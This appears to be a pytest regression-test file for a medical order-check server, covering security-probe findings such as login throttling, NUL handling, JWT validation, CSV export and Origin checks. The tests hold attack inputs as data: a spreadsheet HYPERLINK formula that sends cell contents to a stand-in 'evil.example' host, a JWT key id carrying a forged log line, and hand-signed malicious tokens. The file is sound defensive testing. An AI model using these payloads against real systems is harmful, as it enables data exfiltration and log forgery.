"""Regression tests for the security probe's findings (issue 20), each against a real server.

Findings 6 and 10 are in test_rest.py, finding 4 in tests/cds_hooks/test_fetching.py and
test_cds_fetching_e2e.py, finding 1 in test_replay_across_processes.py, finding 7 in
tests/cds_hooks/test_fetching.py; the rest are here, one test (or more) per finding.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import time
import uuid
from typing import Any

import httpx
import jwt
import pytest

from myorelax.api.cds_auth import CdsAuthError, CdsVerifier
from myorelax.api.settings import Settings, TrustedIssuer
from tests.api.fhir_fakes import hook_request, med_request
from tests.api.server import ISSUER, Keys, Server

ORDER = "/cds-services/myorelax-order-check"


def new_user(server: Server, admin: dict[str, str], role: str = "patient") -> tuple[str, str]:
    name, password = f"probe-{uuid.uuid4().hex[:8]}", "a-long-enough-password"
    r = httpx.post(server.base + "/api/v1/users", headers=admin,
                   json={"username": name, "password": password, "role": role})  # fmt: skip
    assert r.status_code == 201, r.text
    return name, password


def login(server: Server, name: str, password: str) -> httpx.Response:
    return httpx.post(server.base + "/api/v1/auth/login", timeout=30,
                      json={"username": name, "password": password})  # fmt: skip


# -- 2: sign-in throttling -------------------------------------------------------------------------
def test_2_repeated_wrong_passwords_lock_the_name_even_for_the_right_one(
    server: Server, admin: dict[str, str]
) -> None:
    name, password = new_user(server, admin)
    for _ in range(5):  # MYORELAX_SIGN_IN_MAX_FAILURES default
        assert login(server, name, "wrong-password-guess").status_code == 401
    locked = login(server, name, password)
    assert locked.status_code == 429
    assert int(locked.headers["retry-after"]) > 0
    assert locked.json()["field"] == "username"


def test_2_an_unknown_name_is_locked_the_same_way(server: Server) -> None:
    name = f"nobody-{uuid.uuid4().hex[:8]}"
    codes = [login(server, name, "some-password-guess").status_code for _ in range(6)]
    assert codes == [401] * 5 + [429]  # no difference from an existing name


# -- 3: NUL characters -------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "body"),
    [
        ("/api/v1/auth/login", {"username": "adm\u0000in", "password": "whatever-password"}),
        ("/api/v1/patients", {"display_name": "Nul\u0000Person"}),
        ("/api/v1/check", {"orders": ["baclofen 10 mg tid\u0000"]}),
    ],
)
def test_3_a_nul_character_in_text_is_422_naming_it(
    server: Server, admin: dict[str, str], path: str, body: dict[str, Any]
) -> None:
    r = httpx.post(server.base + path, json=body, headers=admin)
    assert r.status_code == 422, r.text
    assert "NUL" in r.json()["detail"]
    assert "Nul\u0000Person" not in server.output and "adm\u0000in" not in server.output


def test_3_a_nul_in_a_form_or_query_is_refused_too(server: Server, admin: dict[str, str]) -> None:
    r = httpx.get(server.base + "/api/v1/drugs?q=bac%00lofen", headers=admin)
    assert r.status_code == 422
    r = httpx.post(server.base + "/login", data={"username": "a\x00b", "password": "x"},
                   headers={"Origin": server.base})  # fmt: skip
    assert r.status_code == 422


# -- 5: an unusable patient prefetch ---------------------------------------------------------------
def cds(server: Server, keys: Keys, body: dict[str, Any]) -> httpx.Response:
    token = keys.token(server.base + ORDER)
    return httpx.post(server.base + ORDER, json=body, timeout=30,
                      headers={"Authorization": f"Bearer {token}"})  # fmt: skip


@pytest.mark.parametrize("patient", [5, None, {"resourceType": "Observation", "id": "x"}])
def test_5_an_unusable_patient_prefetch_is_412_not_an_empty_answer(
    server: Server, keys: Keys, patient: Any
) -> None:
    draft = med_request("d1", "baclofen 10 MG Oral Tablet", per_day=3, dose_mg=10)
    body = hook_request("order-select", "1", [draft],
                        prefetch={"patient": patient, "medications": None})  # fmt: skip
    r = cds(server, keys, body)
    assert r.status_code == 412, r.text
    assert "patient" in r.json()["detail"]


def test_5_a_patient_without_birth_date_gets_a_card_saying_age_was_not_checked(
    server: Server, keys: Keys
) -> None:
    draft = med_request("d1", "cyclobenzaprine 10 MG Oral Tablet", per_day=3, dose_mg=10)
    patient = {"resourceType": "Patient", "id": "1", "gender": "female"}
    body = hook_request("order-select", "1", [draft],
                        prefetch={"patient": patient, "medications": None})  # fmt: skip
    r = cds(server, keys, body)
    assert r.status_code == 200, r.text
    cards = r.json()["cards"]
    assert cards, "an empty answer would read as 'nothing to say' although age was not checked"
    text = " ".join(c["summary"] + " " + c.get("detail", "") for c in cards).lower()
    assert "age" in text


# -- 8 and 9: JWT claims and headers -------------------------------------------------------------
def verifier(keys: Keys) -> CdsVerifier:
    issuer = TrustedIssuer(iss=ISSUER, jwks=keys.jwks("ec"))
    return CdsVerifier(Settings(cds_issuers=[issuer], cds_jwt_max_lifetime_s=None))


def raw_token(keys: Keys, claims: dict[str, Any], kid: str = "ec-1") -> str:
    # PyJWT refuses to encode NaN; the payload is signed by hand as an attacker would.
    header = {"alg": "ES384", "kid": kid, "typ": "JWT"}
    signing = ".".join(
        jwt.utils.base64url_encode(json.dumps(p, allow_nan=True).encode()).decode()
        for p in (header, claims)
    )
    from jwt.algorithms import ECAlgorithm

    sig = ECAlgorithm(ECAlgorithm.SHA384).sign(signing.encode(), keys.ec_private)
    return signing + "." + jwt.utils.base64url_encode(sig).decode()


@pytest.mark.parametrize("field", ["exp", "iat"])
def test_8_a_token_with_nan_times_is_refused(keys: Keys, field: str) -> None:
    now = int(time.time())
    claims = {"iss": ISSUER, "aud": "https://svc/x", "iat": now, "exp": now + 60,
              "jti": str(uuid.uuid4()), field: float("nan")}  # fmt: skip
    with pytest.raises(CdsAuthError, match="finite"):
        verifier(keys).verify("Bearer " + raw_token(keys, claims), ["https://svc/x"])


def test_9_a_kid_with_a_newline_is_refused_before_it_reaches_the_log(keys: Keys) -> None:
    now = int(time.time())
    claims = {"iss": ISSUER, "aud": "https://svc/x", "iat": now, "exp": now + 60,
              "jti": str(uuid.uuid4())}  # fmt: skip
    token = raw_token(keys, claims, kid="ec-1\nCRITICAL forged log line")
    with pytest.raises(CdsAuthError) as err:
        verifier(keys).verify("Bearer " + token, ["https://svc/x"])
    assert "\n" not in str(err.value) and "forged" not in str(err.value)


def test_9_through_the_server_no_forged_line_is_logged(server: Server, keys: Keys) -> None:
    now = int(time.time())
    claims = {"iss": ISSUER, "aud": server.base + ORDER, "iat": now, "exp": now + 60,
              "jti": str(uuid.uuid4())}  # fmt: skip
    token = raw_token(keys, claims, kid="x\nCRITICAL forged-by-probe")
    r = httpx.post(server.base + ORDER, json={"hook": "order-select"},
                   headers={"Authorization": f"Bearer {token}"})  # fmt: skip
    assert r.status_code == 401
    assert not any(line.startswith("CRITICAL forged-by-probe") for line in server.lines)


# -- 11: CSV export ----------------------------------------------------------------------------------
def test_11_the_csv_export_does_not_carry_formulas(
    server: Server, admin: dict[str, str], patient_user: dict[str, str]
) -> None:
    base = server.base + "/api/v1/patients"
    pid = httpx.get(base, headers=patient_user).json()["patients"][0]["id"]
    note = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
    entries = {"entries": [{"at": "2026-11-22T08:00:00+00:00", "kind": "note", "text": note}]}
    r = httpx.post(f"{base}/{pid}/entries", json=entries, headers=patient_user)
    assert r.status_code == 201, r.text
    r = httpx.get(f"{base}/{pid}/report?format=csv&from=2026-11-22&to=2026-11-22",
                  headers=patient_user)  # fmt: skip
    rows = list(csv.DictReader(io.StringIO(r.text)))
    texts = [row["text"] for row in rows if row["kind"] == "note"]
    assert texts and all(not t.startswith(("=", "+", "-", "@")) for t in texts), texts
    assert any(t == "'" + note for t in texts)


# -- 12: linking accounts ----------------------------------------------------------------------------
def test_12_a_clinician_cannot_link_a_patient_account_to_a_record(
    server: Server, admin: dict[str, str], clinician: dict[str, str]
) -> None:
    name, password = new_user(server, admin)
    me = httpx.get(server.base + "/api/v1/auth/me",
                   headers={"Authorization": "Bearer " + login(server, name, password).json()["access_token"]})  # fmt: skip
    uid = me.json()["id"]
    r = httpx.post(server.base + "/api/v1/patients", headers=clinician,
                   json={"display_name": "Taken Over", "user_id": uid})  # fmt: skip
    assert r.status_code == 403
    assert r.json()["field"] == "user_id"
    # The same answer for an id that does not exist: nothing to enumerate.
    r2 = httpx.post(server.base + "/api/v1/patients", headers=clinician,
                    json={"display_name": "Nobody", "user_id": 999_999})  # fmt: skip
    assert (r2.status_code, r2.json()["detail"]) == (r.status_code, r.json()["detail"])


# -- 13: Origin checks and logout ------------------------------------------------------------------
@pytest.mark.parametrize("origin", [None, "null", "https://evil.example"])
def test_13_a_form_post_without_this_sites_origin_is_refused(
    server: Server, origin: str | None
) -> None:
    headers = {"Origin": origin} if origin is not None else {}
    r = httpx.post(server.base + "/login", data={"username": "x", "password": "y"},
                   headers=headers)  # fmt: skip
    assert r.status_code == 403


def test_13_a_cookie_authenticated_api_write_needs_this_sites_origin(server: Server) -> None:
    token = server.login("demo-clinician")["Authorization"].removeprefix("Bearer ")
    cookies = {"myorelax_session": token}
    body = {"orders": ["baclofen 10 mg tid"]}
    for headers in ({}, {"Origin": "https://evil.example"}, {"Origin": "null"}):
        r = httpx.post(server.base + "/api/v1/check", json=body, cookies=cookies,
                       headers=headers)  # fmt: skip
        assert r.status_code == 403, headers
    ok = httpx.post(server.base + "/api/v1/check", json=body, cookies=cookies,
                    headers={"Origin": server.base})  # fmt: skip
    assert ok.status_code == 200
    # a bearer token needs no Origin (not a browser credential)
    assert httpx.post(server.base + "/api/v1/check", json=body,
                      headers={"Authorization": f"Bearer {token}"}).status_code == 200  # fmt: skip


def test_13_logout_with_a_token_and_a_cookie_ends_both(server: Server) -> None:
    bearer = server.login("demo-clinician")["Authorization"]
    cookie = server.login("demo-clinician")["Authorization"].removeprefix("Bearer ")
    r = httpx.post(server.base + "/api/v1/auth/logout", headers={"Authorization": bearer},
                   cookies={"myorelax_session": cookie})  # fmt: skip
    assert r.status_code == 204
    for creds in ({"Authorization": bearer}, {"Authorization": f"Bearer {cookie}"}):
        assert httpx.get(server.base + "/api/v1/auth/me", headers=creds).status_code == 401


# -- 14: conformance -----------------------------------------------------------------------------
def test_14_a_chunked_body_over_the_limit_is_413(server: Server, admin: dict[str, str]) -> None:
    def chunks() -> Any:
        for _ in range(40):
            yield b" " * 10_000  # 400 kB against the test server's 300 kB limit, no length

    r = httpx.post(server.base + "/api/v1/check", content=chunks(),
                   headers={**admin, "Content-Type": "application/json"})  # fmt: skip
    assert r.status_code == 413


def test_14_a_body_that_is_not_json_is_400(server: Server, admin: dict[str, str]) -> None:
    r = httpx.post(server.base + "/api/v1/check", content=b"{not json",
                   headers={**admin, "Content-Type": "application/json"})  # fmt: skip
    assert r.status_code == 400
    assert r.headers["content-type"].startswith("application/problem+json")


@pytest.mark.parametrize("path", ["/api/v1/patients", "/api/v1/auth/me"])
def test_14_patient_data_is_not_cached(
    server: Server, patient_user: dict[str, str], path: str
) -> None:
    r = httpx.get(server.base + path, headers=patient_user)
    assert r.status_code == 200
    assert r.headers["cache-control"] == "no-store"


def test_14_a_raw_socket_sending_a_nul_in_the_path_gets_no_500(server: Server) -> None:
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as s:
        s.sendall(b"GET /api/v1/drugs/bac%00lofen HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        head = s.recv(100)
    assert not head.startswith(b"HTTP/1.1 5"), head
